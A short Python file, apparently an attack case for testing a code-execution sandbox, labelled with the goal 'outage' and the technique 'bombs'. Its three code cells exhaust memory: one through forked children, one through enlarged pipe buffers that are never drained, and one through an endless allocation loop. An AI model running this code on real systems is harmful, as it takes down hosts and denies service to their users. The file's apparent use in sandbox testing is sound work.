"""Memory is taken in a cell, in several children at once, in files in memory and in pipes that nobody empties."""

GOAL = "outage"
TECHNIQUE = "bombs"
CELLS = [
    """
import fcntl, os
for _ in range(3):
    if os.fork() == 0:
        hoard = []
        try:
            while True: hoard.append(b'x' * 2**20)
        except MemoryError:
            os._exit(0)
""",
    """
pipes = []
try:
    while len(pipes) < 200:
        r, w = os.pipe()
        fcntl.fcntl(w, 1031, 1 << 20)
        os.set_blocking(w, False)
        os.write(w, b'x' * (1 << 20))
        pipes.append((r, w))
except OSError:
    pass
""",
    "hoard = []\nwhile True: hoard.append(bytearray(2**24))",
]
